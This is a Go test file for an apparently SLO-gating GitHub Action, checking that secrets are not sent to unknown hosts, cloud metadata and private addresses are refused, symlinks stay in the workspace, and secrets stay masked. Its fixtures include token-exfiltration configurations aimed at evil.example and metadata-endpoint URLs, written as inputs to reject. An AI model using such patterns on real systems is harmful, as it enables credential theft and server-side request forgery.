package main

import (
	"encoding/base64"
	"errors"
	"fmt"
	"maps"
	"net"
	"net/http"
	"net/http/httptest"
	"net/netip"
	"net/url"
	"os"
	"path/filepath"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"github.com/slogate/slogate/action"
	"github.com/slogate/slogate/github"
	"github.com/slogate/slogate/github/githubtest"
	"github.com/slogate/slogate/slo"
)

const apiToken = "s3cr3t/+token"

// withToken is an SLO file whose requests carry a secret, in line 3.
func withToken(target, more string) string {
	return fmt.Sprintf("version: 1\ntarget: %s\nhttp: {headers: {authorization: \"Bearer ${secret.API_TOKEN}\"}}\nscenarios: [{request: GET /}]\nstages: [{name: steady, requests: 200, workers: 2}]\n%s\n", target, more)
}

// Values of the environment leave for no host that the workflow does not know.
func TestSecretsGoToHostsOfTheWorkflow(t *testing.T) {
	const plain = "version: 1\ntarget: %s\nscenarios: [{request: GET /}]\nstages: [{name: steady, requests: 200, workers: 2}]\n"
	for name, tt := range map[string]struct {
		file string
		env  map[string]string
		want string // place and cause of the error; empty: none
	}{
		"localhost":               {withToken("http://localhost:8000", ""), nil, ""},
		"a stranger's host":       {withToken("http://evil.example", ""), nil, "slo.yaml:3:41: SLO110"},
		"looks like localhost":    {withToken("http://localhost.evil.example", ""), nil, "slo.yaml:3:41: SLO110"},
		"allowed":                 {withToken("http://api.example.com", ""), map[string]string{"INPUT_ALLOWED-HOSTS": "*.example.com"}, ""},
		"another is allowed":      {withToken("http://evil.example", "limits: {hosts: [evil.example]}"), map[string]string{"INPUT_ALLOWED-HOSTS": "api.example.com"}, "SLO071"},
		"allowed by the file":     {withToken("http://evil.example", "limits: {hosts: [evil.example]}"), nil, "slo.yaml:3:41: SLO110"},
		"the workflow's target":   {withToken("http://evil.example", ""), map[string]string{"INPUT_TARGET": "https://API.example.com:8443"}, ""},
		"a host of the targets":   {withToken("http://api.example.com:9", ""), map[string]string{"INPUT_BASE-TARGET": "https://api.example.com"}, ""},
		"a service":               {withToken("http://api:8080", ""), map[string]string{"INPUT_JOB-SERVICES": `{"api":{"ports":{}}}`}, ""},
		"another service":         {withToken("http://evil:8080", ""), map[string]string{"INPUT_JOB-SERVICES": `{"api":{"ports":{}}}`}, "slo.yaml:3:41: SLO110"},
		"base target":             {withToken("http://localhost:8000", "baseline: {base_target: http://evil.example}"), nil, "slo.yaml:3:41: SLO110"},
		"a variable":              {strings.Replace(withToken("http://evil.example", ""), "secret.", "env.", 1), nil, "slo.yaml:3:41: SLO110"},
		"a variable's default":    {strings.Replace(withToken("http://evil.example", ""), "secret.API_TOKEN", "env.NONE:-x", 1), nil, ""},
		"in the name of the host": {fmt.Sprintf(plain, `"http://x${env.API_TOKEN}.evil.example"`), map[string]string{"API_TOKEN": "abc"}, "slo.yaml:2:18: SLO110"},
		"the host alone":          {fmt.Sprintf(plain, `"${env.API_TOKEN}"`), map[string]string{"API_TOKEN": "http://api.example.com"}, ""},
		"in a path":               {strings.Replace(fmt.Sprintf(plain, "http://evil.example"), "GET /", "'GET /x?a=${secret.API_TOKEN}'", 1), nil, "slo.yaml:3:33: SLO110"},
		"in a body":               {strings.Replace(fmt.Sprintf(plain, "http://evil.example"), "request: GET /", `request: POST /, json: {a: [{b: "${secret.API_TOKEN}"}]}`, 1), nil, "SLO110"},
		"in a form":               {strings.Replace(fmt.Sprintf(plain, "http://evil.example"), "request: GET /", `request: POST /, form: {a: "${secret.API_TOKEN}"}`, 1), nil, "SLO110"},
		"to be ready":             {fmt.Sprintf(plain, "http://evil.example") + "wait_for: {request: 'GET /${secret.API_TOKEN}'}", nil, "slo.yaml:5:27: SLO110"},
		"to be prepared":          {fmt.Sprintf(plain, "http://evil.example") + "before: [{request: 'GET /${secret.API_TOKEN}'}]", nil, "slo.yaml:5:26: SLO110"},
		"to be read":              {fmt.Sprintf(plain, "http://evil.example") + "metrics: {scrape: '/${secret.API_TOKEN}'}", nil, "slo.yaml:5:21: SLO110"},
	} {
		t.Run(name, func(t *testing.T) {
			j := newJob(t)
			j.write(t, "slo.yaml", tt.file)
			env := map[string]string{"INPUT_MODE": "check", "INPUT_ENV": "API_TOKEN", "API_TOKEN": apiToken}
			maps.Copy(env, tt.env)
			code, log := j.run(t, env)
			want := exitPass
			if tt.want != "" {
				want = exitUsage
			}
			if code != want || !strings.Contains(log, tt.want) || tt.want == "" && strings.Contains(log, "SLO1") {
				t.Errorf("exit %d, want %d and %q in\n%s", code, want, tt.want, log)
			}
			if strings.Count(log, apiToken) != strings.Count(log, "::add-mask::"+apiToken) {
				t.Errorf("the value is in\n%s", log)
			}
		})
	}
}

// The preview of a deployment is as trusted as its deployment.
func TestSecretsOfADeployment(t *testing.T) {
	const payload = `{"deployment":{"sha":"` + headSHA + `","ref":"x"},"deployment_status":{"environment_url":"https://preview.example"},"repository":{"id":1001}}`
	for allowed, want := range map[string]int{"": exitUsage, "*.other.example": exitUsage, "preview.example": exitPass} {
		j := newJob(t)
		j.event(t, "deployment_status", payload)
		j.write(t, "slo.yaml", withToken("http://localhost", ""))
		code, log := j.run(t, map[string]string{"INPUT_MODE": "check", "INPUT_ENV": "API_TOKEN", "API_TOKEN": apiToken, "INPUT_ALLOWED-HOSTS": allowed})
		if code != want {
			t.Errorf("allowed %q: exit %d, want %d\n%s", allowed, code, want, log)
		}
	}
}

// A request that may carry the secret does, and the command line asks nothing.
func TestSecretsAreSent(t *testing.T) {
	got := make(chan string, 1000)
	service := httptest.NewServer(http.HandlerFunc(func(_ http.ResponseWriter, r *http.Request) { got <- r.Header.Get("Authorization") }))
	t.Cleanup(service.Close)
	j := newJob(t)
	j.write(t, "slo.yaml", withToken(service.URL, ""))
	if code, log := j.run(t, map[string]string{"INPUT_ENV": "API_TOKEN", "API_TOKEN": apiToken}); code != exitPass || <-got != "Bearer "+apiToken {
		t.Errorf("exit %d\n%s", code, log)
	}
	j.write(t, "slo.yaml", withToken("http://evil.example", ""))
	if code, log := j.run(t, map[string]string{"API_TOKEN": apiToken}, "check", j.env["INPUT_CONFIG"]); code != exitPass {
		t.Errorf("on the command line: exit %d\n%s", code, log)
	}
}

// Addresses of cloud metadata are not reached, whoever names them.
func TestMetadataIsRefused(t *testing.T) {
	for _, target := range []string{"http://169.254.169.254", "http://[::ffff:169.254.169.254]", "http://[fd00:ec2::254]", "https://169.254.169.254"} {
		for _, input := range []bool{false, true} {
			j := newJob(t)
			j.target = target
			j.config(t, "iris", "p95 <= 30s")
			env := map[string]string{}
			if input {
				u, err := url.Parse(target)
				if err != nil {
					t.Fatal(err)
				}
				env = map[string]string{"INPUT_TARGET": target, "INPUT_ALLOWED-HOSTS": u.Hostname()}
			}
			code, log := j.run(t, env)
			if code != exitUsage || !strings.Contains(log, "refused to connect to ") || !strings.Contains(log, "which is never reached from a workflow") {
				t.Errorf("%s, as an input %v: exit %d\n%s", target, input, code, log)
			}
			if text := j.summary(t); !strings.Contains(text, "refused to connect to ") {
				t.Errorf("the summary is\n%s", text)
			}
		}
	}
}

// A stranger's change reaches what is behind the runner over the workflow's own
// routes alone.
func TestPrivateAddressesOfAStranger(t *testing.T) {
	fork := github.Event{Name: "pull_request", Fork: true}
	deployed := github.Event{Name: "deployment_status", EnvironmentURL: "http://10.0.0.1"}
	own := github.Event{Name: "pull_request"}
	for name, tt := range map[string]struct {
		event  github.Event
		in     action.Inputs
		target string
		way    way
		want   bool // a private address may be reached
	}{
		"own":                      {own, action.Inputs{}, "http://x.example", way{}, true},
		"fork":                     {fork, action.Inputs{}, "http://x.example", way{}, false},
		"fork, by address":         {fork, action.Inputs{}, "http://10.0.0.1", way{}, false},
		"fork, allowed":            {fork, action.Inputs{AllowedHosts: "x.example"}, "http://x.example", way{}, true},
		"fork, another is allowed": {fork, action.Inputs{AllowedHosts: "y.example"}, "http://x.example", way{}, false},
		"fork, network allowed":    {fork, action.Inputs{AllowedHosts: "10.0.0.0/8"}, "http://10.0.0.1", way{}, true},
		"fork, wrong input":        {fork, action.Inputs{AllowedHosts: "http://x.example"}, "http://x.example", way{}, false},
		"fork, target":             {fork, action.Inputs{Target: "http://X.example.:80"}, "http://x.example", way{}, true},
		"fork, base target":        {fork, action.Inputs{BaseTarget: "http://x.example"}, "http://x.example", way{}, true},
		"fork, service":            {fork, action.Inputs{Services: `{"db":{}}`}, "http://db:80", way{}, true},
		"fork, localhost":          {fork, action.Inputs{}, "http://localhost:80", way{}, true},
		"fork, over the gateway":   {fork, action.Inputs{}, "http://localhost:80", way{address: "172.17.0.1:80"}, true},
		"deployment":               {deployed, action.Inputs{}, "http://10.0.0.1", way{}, false},
		"deployment, named":        {deployed, action.Inputs{Target: "http://10.0.0.1"}, "http://10.0.0.1", way{}, true},
	} {
		guard := newTrust(tt.event, tt.in).guard(tt.target, tt.way)
		if err := guard(netip.MustParseAddr("10.0.0.1")); (err == nil) != tt.want {
			t.Errorf("%s: private address: %v, want it reached: %v", name, err, tt.want)
		}
		if err := guard(netip.MustParseAddr("93.184.216.34")); err != nil {
			t.Errorf("%s: public address: %v", name, err)
		}
		if guard(netip.MustParseAddr("169.254.169.254")) == nil {
			t.Errorf("%s: metadata is reached", name)
		}
	}
}

// A fork's file that names a private address loads nothing.
func TestForkDoesNotReachPrivateAddresses(t *testing.T) {
	j := newJob(t)
	j.event(t, "pull_request", pullEvent(2002))
	j.target = "http://10.1.2.3"
	j.config(t, "iris", "p95 <= 30s")
	code, log := j.run(t, nil)
	if code != exitUsage || !strings.Contains(log, "refused to connect to 10.1.2.3: a private address, which a change of a stranger reaches only where the workflow names the host") {
		t.Errorf("exit %d\n%s", code, log)
	}
}

// A deployment does not start the action in the runner's network.
func TestStrangersDoNotEnterTheRunnersNetwork(t *testing.T) {
	for name, tt := range map[string]struct {
		event  github.Event
		target string
		want   bool
	}{
		"own":                   {github.Event{Name: "pull_request"}, "", false},
		"fork":                  {github.Event{Name: "pull_request", Fork: true}, "", true},
		"fork, target named":    {github.Event{Name: "pull_request", Fork: true}, "http://localhost", true},
		"deployment":            {github.Event{Name: "deployment_status"}, "", true},
		"deployment, as such":   {github.Event{Name: "deployment"}, "", true},
		"deployment, named":     {github.Event{Name: "deployment_status"}, "http://localhost", false},
		"push":                  {github.Event{Name: "push"}, "", false},
		"payload was not there": {github.Event{Name: "workflow_run", Fork: true}, "", true},
	} {
		n, _, _ := testNetwork(t)
		n.trust = newTrust(tt.event, action.Inputs{Target: tt.target})
		_, why := n.host(t.Context(), "auto")
		if got := strings.HasPrefix(why, "never by itself"); got != tt.want {
			t.Errorf("%s: %q, want that it never is: %v", name, why, tt.want)
		}
	}
}

// No spelling of a secret is in what says why nothing was loaded.
func TestVeiled(t *testing.T) {
	file := &slo.File{Secrets: []string{apiToken}}
	why := hinted{errors.New("got " + url.QueryEscape(apiToken) + " and " + apiToken), "say " + base64.StdEncoding.EncodeToString([]byte("user:"+apiToken))}
	err := veiled(fmt.Errorf("run: %w", why), file)
	h, ok := errors.AsType[hinted](err)
	if !ok || err.Error() != "run: got *** and ***" || !strings.Contains(h.hint, "***") || strings.Contains(h.hint, base64.StdEncoding.EncodeToString([]byte(apiToken))[4:12]) {
		t.Errorf("%v, hint %q", err, h.hint)
	}
	if got := veiled(why, &slo.File{}); got.Error() != why.Error() {
		t.Error(got)
	}
}

// Who set the label accepts, as the API says it: the event's payload is old.
func TestAccepted(t *testing.T) {
	label := githubtest.Labelled{Pull: 7, By: "ann", Name: "slogate-accept"}
	labelled := strings.Replace(pullEvent(githubtest.RepositoryID), `"number":7,`, `"number":7,"labels":[{"name":"slogate-accept"}],`, 1)
	for name, tt := range map[string]struct {
		labels  []githubtest.Labelled
		payload string // empty: without a label
		input   bool
		server  func(*githubtest.Server)
		token   string
		want    string
	}{
		"nothing":              {token: "ghs_x"},
		"the label":            {labels: []githubtest.Labelled{label}, token: "ghs_x", want: "by the label slogate-accept, set by ann"},
		"another label":        {labels: []githubtest.Labelled{{Pull: 7, By: "ann", Name: "slogate"}}, token: "ghs_x"},
		"of another one":       {labels: []githubtest.Labelled{{Pull: 8, By: "ann", Name: "slogate-accept"}}, token: "ghs_x"},
		"removed since":        {payload: labelled, token: "ghs_x"},
		"no token":             {payload: labelled, want: "by the label slogate-accept"},
		"no token, not set":    {labels: []githubtest.Labelled{label}},
		"an outage":            {payload: labelled, token: "ghs_x", server: func(s *githubtest.Server) { s.Handle("GET /repos/acme/iris/issues/7/labels", refuses) }, want: "by the label slogate-accept"},
		"nobody says who":      {labels: []githubtest.Labelled{label}, token: "ghs_x", server: func(s *githubtest.Server) { s.Handle("GET /repos/acme/iris/issues/7/events", refuses) }, want: "by the label slogate-accept"},
		"a hostile name":       {labels: []githubtest.Labelled{{Pull: 7, By: "@all **", Name: "slogate-accept"}}, token: "ghs_x", want: "by the label slogate-accept"},
		"in another case":      {labels: []githubtest.Labelled{{Pull: 7, By: "ann", Name: "Slogate-Accept"}}, token: "ghs_x", want: "by the label slogate-accept, set by ann"},
		"the input":            {labels: []githubtest.Labelled{label}, input: true, want: "by the input accept"},
		"set by a workflow":    {labels: []githubtest.Labelled{{Pull: 7, By: githubtest.Bot, Name: "slogate-accept"}}, token: "ghs_x", want: "by the label slogate-accept, set by github-actions[bot]"},
		"an event without one": {labels: []githubtest.Labelled{label}, payload: `{"repository":{"id":1001}}`, token: "ghs_x"},
	} {
		t.Run(name, func(t *testing.T) {
			j := newJob(t)
			j.github.Labelled = tt.labels
			if tt.payload != "" {
				j.event(t, "pull_request", tt.payload)
			}
			if tt.server != nil {
				tt.server(j.github)
			}
			getenv := func(name string) string { return j.env[name] }
			p := &program{lookupEnv: func(name string) (string, bool) { v, ok := j.env[name]; return v, ok }, stdout: t.Output(), stderr: t.Output()}
			pr := newPullRequest(action.New(getenv, t.Output()), action.Inputs{Token: tt.token, Accept: tt.input})
			if got := pr.accepted(t.Context(), p); got != tt.want {
				t.Errorf("accepted %q, want %q", got, tt.want)
			}
		})
	}
}

// The label counts for every event whose comment stands on the pull request, and
// not for what is on the default branch.
func TestAcceptedForAnEvent(t *testing.T) {
	const repository = `"repository":{"id":1001,"default_branch":"main"}`
	push := func(ref, sha string) string {
		return fmt.Sprintf(`{"ref":"refs/heads/%s","after":%q,%s}`, ref, sha, repository)
	}
	run := func(owner int64) string {
		return fmt.Sprintf(`{"workflow_run":{"id":5,"head_sha":%q,"head_branch":"faster","head_repository":{"id":%d}},%s}`, headSHA, owner, repository)
	}
	for name, tt := range map[string]struct {
		event, payload, ref string
		want                bool
	}{
		"push":                       {"push", push("faster", headSHA), "faster", true},
		"push of another commit":     {"push", push("faster", baseSHA), "faster", false},
		"push to the default branch": {"push", push("main", headSHA), "main", false},
		"by hand":                    {"workflow_dispatch", "{" + repository + "}", "faster", true},
		"schedule":                   {"schedule", "{" + repository + "}", "main", false},
		"deployment":                 {"deployment_status", `{"deployment":{"sha":"` + headSHA + `"},"deployment_status":{},` + repository + `}`, "", true},
		"end of a run":               {"workflow_run", run(1001), "main", true},
		"end of a fork's run":        {"workflow_run", run(2002), "main", false},
		"comment":                    {"issue_comment", `{"issue":{"number":7,"pull_request":{}},` + repository + `}`, "main", true},
	} {
		for _, state := range []string{"open", "closed"} {
			t.Run(name+", "+state, func(t *testing.T) {
				j := newJob(t)
				j.github.Labelled = []githubtest.Labelled{{Pull: 7, By: "ann", Name: "slogate-accept"}}
				j.github.Pulls = []githubtest.Pull{{Number: 7, State: state, Head: githubtest.Side{SHA: headSHA, Ref: "faster", Owner: "acme", RepositoryID: githubtest.RepositoryID}}}
				j.event(t, tt.event, tt.payload)
				j.env["GITHUB_REF"], j.env["GITHUB_SHA"] = "refs/heads/"+tt.ref, headSHA
				getenv := func(name string) string { return j.env[name] }
				p := &program{lookupEnv: func(name string) (string, bool) { v, ok := j.env[name]; return v, ok }, stdout: t.Output(), stderr: t.Output()}
				pr := newPullRequest(action.New(getenv, t.Output()), action.Inputs{Token: "ghs_x"})
				want := tt.want && (state == "open" || tt.event == "issue_comment") // which names it
				if got := pr.accepted(t.Context(), p); (got != "") != want {
					t.Errorf("accepted %q, want %v", got, want)
				}
			})
		}
	}
}

// refuses is an answer that is not worth a second try.
func refuses(w http.ResponseWriter, _ *http.Request) {
	githubtest.Refuse(w, http.StatusBadRequest, "no")
}

// An SLO file that is a link stays in the workspace: what it leads to would be
// in the errors.
func TestSLOFileIsNoWayOutOfTheWorkspace(t *testing.T) {
	j := newJob(t)
	outside := filepath.Join(t.TempDir(), "environ")
	if err := os.WriteFile(outside, []byte("TOKEN: abc123\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	path := j.env["INPUT_CONFIG"]
	for _, target := range []string{outside, "linked.yaml"} {
		if err := errors.Join(os.Remove(path), os.Symlink(target, path)); err != nil {
			t.Fatal(err)
		}
		j.write(t, "linked.yaml", sloFile("iris", j.target, "p95 <= 30s"))
		want := exitUsage
		if target == "linked.yaml" {
			want = exitPass
		}
		code, log := j.run(t, nil)
		if code != want || strings.Contains(log+j.summary(t), "abc123") {
			t.Errorf("link to %s: exit %d\n%s", target, code, log)
		}
	}
}

// A target that is a secret is in nothing that is written.
func TestTargetWithASecret(t *testing.T) {
	const host = "127.0.0.77" // a text that nothing else brings
	l, err := net.Listen("tcp", host+":0")
	if err != nil {
		t.Skip(err) // a system with one loopback address
	}
	service := &httptest.Server{Listener: l, Config: &http.Server{Handler: http.HandlerFunc(func(http.ResponseWriter, *http.Request) {})}}
	service.Start()
	t.Cleanup(service.Close)
	j := newJob(t)
	j.target = strings.Replace(service.URL, host, "${secret.HOST}", 1)
	for name, base := range map[string]string{"alone": "", "compared": "\nbaseline: {base_target: '" + j.target + "', max: 1s}\n"} {
		j.write(t, "slo.yaml", sloFile("iris", j.target, "p95 <= 30s", "warn: p95 <= baseline + 900%")+base)
		code, log := j.run(t, map[string]string{"INPUT_ENV": "HOST", "HOST": host})
		if code != exitPass || len(j.github.Comments) != 1 {
			t.Fatalf("%s: exit %d, comments %+v\n%s", name, code, j.github.Comments, log)
		}
		said := map[string]string{"comment": j.github.Comments[0].Body, "summary": j.summary(t), "log": strings.ReplaceAll(log, "::add-mask::"+host, "")}
		files, err := filepath.Glob(filepath.Join(j.dir, "out", "*"))
		if err != nil || len(files) < 5 {
			t.Fatalf("files %q, %v", files, err)
		}
		for _, path := range append(files, j.env["GITHUB_OUTPUT"]) {
			text, err := os.ReadFile(path)
			if err != nil {
				t.Fatal(err)
			}
			said[path] = string(text)
		}
		for where, text := range said {
			if at := strings.Index(text, host); at >= 0 {
				t.Errorf("%s: in the %s: %q", name, where, text[max(at-100, 0):min(at+100, len(text))])
			}
		}
	}
}

// Nor is one that cannot be connected to, while it is waited for and after.
func TestClosedTargetWithASecret(t *testing.T) {
	const host = "127.0.0.78"
	j := newJob(t)
	j.write(t, "slo.yaml", strings.Replace(sloFile("iris", "http://${secret.HOST}:9", "p95 <= 30s"), "timeout: 20s", "timeout: 1s", 1))
	code, log := j.run(t, map[string]string{"INPUT_ENV": "HOST", "HOST": host})
	if code != exitInconclusive || !strings.Contains(log, `waiting for "***:9", up to 1 s`) || !strings.Contains(log, `target "***:9" was not ready within 1 s`) {
		t.Errorf("exit %d\n%s", code, log)
	}
	for where, text := range map[string]string{"log": withoutMasks(log), "summary": j.summary(t)} {
		if strings.Contains(text, host) {
			t.Errorf("in the %s:\n%s", where, text)
		}
	}
}

// A regression that the label accepts only warns, and the report says whose it
// is.
func TestAcceptedRegressionInTheReport(t *testing.T) {
	var slow atomic.Bool
	service := httptest.NewServer(http.HandlerFunc(func(http.ResponseWriter, *http.Request) {
		if slow.Load() {
			time.Sleep(100 * time.Millisecond)
		}
	}))
	t.Cleanup(service.Close)
	j := newJob(t)
	j.target = service.URL
	config := func(objective, more string) {
		j.write(t, "slo.yaml", strings.Replace(sloFile("iris", j.target, "success_rate >= 50%", objective), "requests: 200", "requests: 40", 1)+more)
	}
	config("p50 <= 30s", "")
	if code, log := j.run(t, nil); code != exitPass {
		t.Fatal(log)
	}
	slow.Store(true)
	earlier := filepath.Join(j.dir, "earlier.json")
	if err := os.Rename(filepath.Join(j.dir, "out", resultFile), earlier); err != nil {
		t.Fatal(err)
	}
	config("p50 <= baseline + 10%", "baseline: {strict: on}\n")
	env := map[string]string{"INPUT_BASELINE": earlier}
	if code, log := j.run(t, env); code != exitFail || !strings.Contains(log, "; baseline ") {
		t.Fatalf("exit %d\n%s", code, log)
	}
	j.github.Labelled = []githubtest.Labelled{{Pull: 7, By: "ann", Name: action.AcceptLabel}}
	code, log := j.run(t, env)
	for where, text := range map[string]string{"log": log, "summary": j.summary(t), "comment": j.github.Comments[0].Body} {
		if code != exitPass || !strings.Contains(text, "accepted: by the label slogate-accept, set by ann") {
			t.Errorf("exit %d, the %s is\n%s", code, where, text)
		}
	}
}
